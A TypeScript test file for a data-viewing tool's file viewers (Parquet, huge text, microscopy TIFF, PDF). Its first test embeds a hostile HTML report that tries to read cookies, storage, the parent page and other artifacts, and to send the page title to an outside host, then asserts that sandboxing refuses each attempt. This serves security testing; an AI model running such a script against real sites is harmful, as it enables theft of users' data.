/**
 * Viewers on files of every size and intent: Parquet by ranges, reports that try to leave their frame, texts of 2 GB, pictures of the
 * microscope, PDF. What is asserted is what is drawn and which bytes were asked for.
 */
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync, truncateSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, test } from "node:test";
import { parquetWriteBuffer } from "hyparquet-writer";
import sharp, { type SharpOptions } from "sharp";
import { noBrowser } from "./browser.ts";
import { ROOT, scratch, succeed } from "./golgi.ts";
import { artifactPath, countBytes, photograph, pixelsOf, place, put, settled, until, type FileLike } from "./viewing.ts";

const IMAGES = join(process.env["GOLGI_TEST_DATA"] ?? resolve(ROOT, "../shared/data"), "microscopy");
const noImages = noBrowser || (existsSync(IMAGES) ? false : `no test data at ${IMAGES}`);

test("a report cannot leave its frame", { skip: noBrowser, timeout: 120_000 }, async (t) => {
  const { golgi, page, served, visitor, open } = await place(t);
  const secret = await put(golgi, "secret.txt", "the secret of another file");
  const page1 = await put(
    golgi,
    "index.html",
    `<!doctype html><h1>Hostile</h1><ul id="out"></ul><script>
      const say = (name, got) => { const li = document.createElement("li"); li.textContent = name + ": " + got; document.getElementById("out").append(li); };
      const attempt = async (name, act) => { try { say(name, await act()); } catch (error) { say(name, "refused"); } };
      (async () => {
        await attempt("parent", () => parent.document.title);
        await attempt("cookie", () => document.cookie);
        await attempt("storage", () => localStorage.length);
        await attempt("api", async () => (await fetch("${served.url}/api/v1/runs", { credentials: "include" })).status);
        await attempt("artifact", async () => (await fetch("${served.url}/api/v1/artifacts/${secret.digest}", { credentials: "include" })).text());
        await attempt("climb", async () => { const r = await fetch("../${secret.digest.slice(7)}/secret.txt"); return r.ok ? r.text() : "refused"; });
        await attempt("stranger", async () => (await fetch("http://192.0.2.1/")).status);
        if (top !== self) await attempt("top", () => { top.location = "http://192.0.2.1/"; return "asked"; });
        await attempt("frame", () => new Promise((resolve) => { const f = document.createElement("iframe"); f.src = "${served.url}/runs"; f.onload = () => { try { resolve(f.contentDocument ? "reached" : "refused"); } catch { resolve("refused"); } }; document.body.append(f); setTimeout(() => resolve("refused"), 500); }));
        await attempt("picture", () => new Promise((resolve) => { const i = new Image(); i.onload = () => resolve("reached"); i.onerror = () => resolve("refused"); i.src = "${served.url}/favicon.svg"; }));
        await attempt("own", async () => (await fetch("data.json")).text());
        say("done", "yes");
        // Navigation by itself: the page around the frame forbids it.
        if (top !== self) setTimeout(() => { location.href = "http://192.0.2.1/?" + document.title; }, 3000);
      })();
    </script>`,
  );
  const data = await put(golgi, "data.json", '{"own":"data"}');
  const report = (await golgi.call("storeDirectory", {
    body: {
      name: "hostile",
      files: [
        { path: "index.html", digest: page1.digest as never },
        { path: "data.json", digest: data.digest as never },
      ],
    },
  })) as unknown as FileLike;
  const leaving = page.waitForEvent("console", { predicate: (line) => line.text().startsWith("Framing 'http://192.0.2.1/'") });
  await open(artifactPath({ ...report, class: "Directory" }));
  const frame = page.frameLocator("iframe");
  await frame.getByText("done: yes").waitFor();
  const said = Object.fromEntries(
    (await frame.locator("#out li").allTextContents()).map((line) => line.split(/: (.*)/s).slice(0, 2)),
  );
  assert.deepEqual(said, {
    parent: "refused",
    cookie: "refused",
    storage: "refused",
    api: "refused",
    artifact: "refused",
    climb: "refused",
    stranger: "refused",
    top: "refused",
    frame: "refused",
    picture: "refused",
    own: '{"own":"data"}',
    done: "yes",
  });
  const src = await page.locator("iframe").getAttribute("src");
  await leaving;
  assert.ok(page.url().startsWith(served.url), "the page stays where it was");
  assert.deepEqual([...visitor.strangers], []);
  // The same by itself, in a tab of its own: the policy of the answer holds.
  const alone = await visitor.context.newPage();
  await alone.goto(served.url + src);
  await alone.getByText("done: yes").waitFor();
  assert.equal(await alone.evaluate(() => window.origin), "null");
  assert.match(await alone.locator("#out").innerText(), /api: refused[\s\S]*artifact: refused/);
});

describe("Parquet", { skip: noBrowser }, () => {
  test("read by ranges: 35 MB cost the footer and the pages in view", { timeout: 180_000 }, async (t) => {
    const here = await place(t);
    const { golgi, page, visitor, open } = here;
    const rows = 400_000;
    const random = mulberry(7);
    const columns = Array.from({ length: 12 }, (_, index) => ({
      name: `value ${index}`,
      data: Float64Array.from({ length: rows }, () => random()) as never,
      type: "DOUBLE" as const,
    }));
    const buffer = parquetWriteBuffer({
      columnData: [{ name: "row", data: Int32Array.from({ length: rows }, (_, row) => row) as never, type: "INT32" }, ...columns],
      rowGroupSize: 20_000,
    });
    const file = await put(golgi, "large.parquet", new Uint8Array(buffer));
    assert.ok(buffer.byteLength > 30_000_000, `${buffer.byteLength} bytes`);
    const bytes = countBytes(page);
    await open(artifactPath(file));
    const table = page.getByTestId("table");
    await page.getByText("400,000 rows · 13 columns").waitFor();
    await table.getByRole("row").nth(1).getByText("0", { exact: true }).waitFor();
    await page.getByRole("button", { name: "About the column row" }).filter({ hasText: "0 … 399,999" }).waitFor();
    const first = bytes.of(file.digest);
    await table.evaluate((box) => box.scrollTo(0, box.scrollHeight * 0.7));
    await until(
      async () => Number(await table.getByRole("row").nth(20).getByRole("cell").first().textContent()),
      (row) => row > 270_000 && row < 290_000,
    );
    const read = bytes.of(file.digest);
    t.diagnostic(`${first} bytes for the first screen, ${read} after a jump, of ${buffer.byteLength}`);
    assert.ok(first > 0 && first < buffer.byteLength / 8, `${first} bytes for the first screen`);
    assert.ok(read < buffer.byteLength / 4, `${read} bytes after a jump`);
    await page.getByRole("button", { name: "row", exact: true }).click();
    await page.getByRole("button", { name: /^row ↑/ }).click();
    await table.getByRole("row").nth(1).getByText("399999", { exact: true }).waitFor();
    await photograph(page, "viewers-parquet");
    const other = await here.again();
    await other.getByTestId("table").getByRole("row").nth(1).getByText("399999", { exact: true }).waitFor();
    await other.close();
    settled(visitor);
  });

  test("of a table of 90 MB sort and filter take the first part and say so", { timeout: 180_000 }, async (t) => {
    const { golgi, page, visitor, open } = await place(t);
    const rows = 1_300_000;
    const random = mulberry(9);
    const columns = Array.from({ length: 10 }, (_, index) => ({
      name: `v${index}`,
      data: Float64Array.from({ length: rows }, () => random()) as never,
      type: "DOUBLE" as const,
    }));
    const buffer = parquetWriteBuffer({
      columnData: [{ name: "row", data: Int32Array.from({ length: rows }, (_, row) => row) as never, type: "INT32" }, ...columns],
      rowGroupSize: 100_000,
    });
    assert.ok(buffer.byteLength > 80_000_000, `${buffer.byteLength} bytes`);
    const file = await put(golgi, "huge.parquet", new Uint8Array(buffer));
    const bytes = countBytes(page);
    await open(artifactPath(file, { sort: "-row" }));
    const note = page.getByTestId("table-note");
    await note.getByText(/^A large table: sorted within the first [\d,]+ of 1,300,000 rows only\.$/).waitFor();
    const reach = Number(/first ([\d,]+) of/.exec(await note.innerText())?.[1]?.replaceAll(",", ""));
    assert.ok(reach >= 600_000 && reach < rows, `${reach}`);
    await page
      .getByTestId("table")
      .getByRole("row")
      .nth(1)
      .getByText(String(reach - 1), { exact: true })
      .waitFor();
    const read = bytes.of(file.digest);
    assert.ok(read < 30_000_000, `${read} bytes: the sorted column, and the cells in view`);
    settled(visitor);
  });

  test("what is broken says so", { timeout: 60_000 }, async (t) => {
    const { golgi, page, open } = await place(t);
    const whole = readFileSync(join(ROOT, "packages/ui/test-data/parquet/groups.parquet"));
    await open(artifactPath(await put(golgi, "cut.parquet", whole.subarray(0, whole.length / 2))));
    await page
      .getByRole("alert")
      .getByText(/no whole Parquet file/)
      .waitFor();
    await photograph(page, "viewers-broken");
    await open(
      artifactPath(await put(golgi, "types.parquet", readFileSync(join(ROOT, "packages/ui/test-data/parquet/types.parquet")))),
    );
    await page.getByTestId("table").getByText("2026-01-02 03:04:05.678").waitFor();
    await open(
      artifactPath(await put(golgi, "empty.parquet", readFileSync(join(ROOT, "packages/ui/test-data/parquet/empty.parquet")))),
    );
    await page.getByText("This table has no rows").waitFor();
  });
});

test("huge texts: only parts are read; a line of 2 GB; empty files", { skip: noBrowser, timeout: 180_000 }, async (t) => {
  const state = join(scratch(t), ".golgi");
  const folder = scratch(t);
  const link = async (name: string, head: string, size: number): Promise<FileLike> => {
    const path = join(folder, name);
    writeFileSync(path, head);
    truncateSync(path, size);
    const said = await succeed(["--state", state, "store", "link", path]);
    return { digest: /sha256:[0-9a-f]{64}/.exec(said)?.[0] as string, name };
  };
  const lines = await link("lines.txt", Array.from({ length: 200_000 }, (_, n) => `line ${n + 1}\n`).join(""), 2 * 1024 ** 3);
  const single = await link("single.txt", "a".repeat(3 * 1024 * 1024), 2 * 1024 ** 3);
  const { golgi, page, visitor, open } = await place(t, state);
  const bytes = countBytes(page);
  await open(artifactPath(lines));
  await page.getByTestId("text").getByText("line 1", { exact: true }).waitFor();
  await page.getByText(/of 2\.0 GiB read/).waitFor();
  assert.ok(bytes.of(lines.digest) <= 600_000, `${bytes.of(lines.digest)} bytes`);
  await page.getByRole("button", { name: "Read on" }).click();
  await page.getByText(/1\.0 MiB of 2\.0 GiB read/).waitFor();
  await page.getByRole("button", { name: "To the end" }).click();
  await page.getByText(/the last/).waitFor();
  assert.ok(bytes.of(lines.digest) < 2_000_000, `${bytes.of(lines.digest)} bytes`);
  await open(artifactPath(lines, { line: "90000" }));
  await page.getByTestId("text").getByText("line 90000", { exact: true }).waitFor();
  bytes.reset();
  await open(artifactPath(single));
  await page.getByText(/more characters so far/).waitFor();
  assert.ok(bytes.of(single.digest) <= 600_000);
  const drawn = await page.getByTestId("text").evaluate((box) => box.textContent?.length ?? 0);
  assert.ok(drawn < 10_000, `${drawn} characters are drawn`);
  await photograph(page, "viewers-long-line");
  for (const name of ["empty.txt", "empty.csv", "empty.fa", "empty.json", "empty.parquet", "empty.tif", "empty.html"]) {
    await open(artifactPath(await put(golgi, name, "")));
    await page.getByText("This file is empty").waitFor();
  }
  settled(visitor);
});

describe("images of the microscope", { skip: noImages }, () => {
  test("three channels of one site as a 16-bit TIFF of three pages: pages, contrast, overlay, region", {
    timeout: 120_000,
  }, async (t) => {
    const here = await place(t);
    const { golgi, page, visitor, open } = here;
    const folder = join(IMAGES, "human-3ch");
    const files = ["d0", "d1", "d2"].map((channel) => join(folder, nameWith(folder, `${channel}.tif`)));
    const pages = await Promise.all(
      files.map((path) => sharp(path).toColourspace("b-w").raw().toBuffer({ resolveWithObject: true })),
    );
    const { width = 0, height = 0 } = pages[0]?.info ?? {};
    // The microscope's 8 bits, spread over a part of 16.
    const values = Uint16Array.from(
      pages.flatMap(({ data, info }) =>
        Array.from({ length: width * height }, (_, pixel) => 500 + 40 * (data[pixel * info.channels] as number)),
      ),
    );
    const tiff = await sharp(
      values as unknown as Uint8Array,
      { raw: { width, height: 3 * height, channels: 1, pageHeight: height } } as SharpOptions,
    )
      .toColourspace("grey16")
      .tiff({ compression: "lzw" })
      .toBuffer();
    const file = await put(golgi, "site.tif", tiff);
    await open(artifactPath(file));
    const image = page.locator('[data-testid="image"][data-ready="true"]');
    await image.waitFor();
    await page.getByText("512 × 512 · 1 channel · 16 bit").waitFor();
    const canvas = () => pixelsOf(page.getByTestId("image"));
    const first = await until(canvas, ({ ink }) => ink > 0.2);
    await photograph(page, "viewers-tiff");
    await page.getByRole("textbox", { name: "Page" }).fill("3");
    await page.waitForURL(/page=3/);
    await until(canvas, ({ mean }) => Math.abs(mean[0] - first.mean[0]) > 3);
    await page.getByRole("button", { name: "Zoom in" }).click();
    await page.waitForURL(/region=/);
    await page.getByRole("slider", { name: "Brightest value" }).focus();
    for (let step = 0; step < 40; step++) await page.keyboard.press("ArrowLeft");
    await page.waitForURL(/contrast=/);
    const bright = await until(canvas, ({ ink }) => ink > 0.2);
    const other = await here.again();
    await other.locator('[data-testid="image"][data-ready="true"]').waitFor();
    const copy = await until(
      () => pixelsOf(other.getByTestId("image")),
      ({ mean }) => Math.abs(mean[0] - bright.mean[0]) < 6,
    );
    assert.ok(copy.ink > 0.2, "the same page, contrast and region in another tab");
    await other.close();
    await open(artifactPath(file, { channel: "overlay" }));
    await page.locator('[data-testid="image"][data-layers="3"]').waitFor();
    const { mean } = await until(
      canvas,
      ({ mean: [red, green, blue] }) => Math.max(red, green, blue) - Math.min(red, green, blue) > 4,
    );
    t.diagnostic(`overlay: mean colour ${mean.map(Math.round).join(", ")}`);
    await photograph(page, "viewers-overlay");
    settled(visitor);
  });

  test("an 8-bit palette image; what is no image says so", { timeout: 60_000 }, async (t) => {
    const { golgi, page, visitor, open } = await place(t);
    const folder = join(IMAGES, "transfluor");
    const name = nameWith(folder, ".tif");
    await open(artifactPath(await put(golgi, name, readFileSync(join(folder, name)))));
    await page.locator('[data-testid="image"][data-ready="true"]').waitFor();
    await until(
      () => pixelsOf(page.getByTestId("image")),
      ({ ink }) => ink > 0.2,
    );
    settled(visitor);
    await open(artifactPath(await put(golgi, "noise.tif", "no image at all")));
    await page.getByText("GOLGI_NOT_AN_IMAGE").waitFor();
  });
});

test("a PDF is drawn, at the page of the address", { skip: noBrowser, timeout: 60_000 }, async (t) => {
  const { golgi, page, visitor, open } = await place(t);
  const maker = await visitor.context.newPage();
  await maker.setContent(
    '<h1 style="background:#c00;color:#fff;height:900px">One</h1><h1 style="page-break-before:always;background:#00c;height:900px">Two</h1>',
  );
  const pdf = await maker.pdf({ printBackground: true, width: "600px", height: "950px" });
  await maker.close();
  const file = await put(golgi, "figure.pdf", pdf);
  await open(artifactPath(file));
  const red = await until(
    () => pixelsOf(page.locator("section[data-viewer]")),
    ({ mean }) => mean[0] > mean[2] + 15,
  );
  assert.ok(red.ink > 0.1);
  await photograph(page, "viewers-pdf");
  await open("/runs");
  await open(artifactPath(file, { page: "2" }));
  await until(
    () => pixelsOf(page.locator("section[data-viewer]")),
    ({ mean }) => mean[2] > mean[0] + 15,
  );
  assert.deepEqual([...visitor.faults], []);
  // The browser's own viewer is made of pages of the browser.
  assert.deepEqual(
    [...visitor.strangers].filter((url) => !/^chrome(-extension)?:/.test(url)),
    [],
  );
});

function nameWith(folder: string, ending: string): string {
  const name = readdirSync(folder)
    .sort()
    .find((one) => one.toLowerCase().endsWith(ending));
  assert.ok(name !== undefined, `${folder} has a file …${ending}`);
  return name;
}

/** Numbers that do not compress, the same each time. */
function mulberry(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
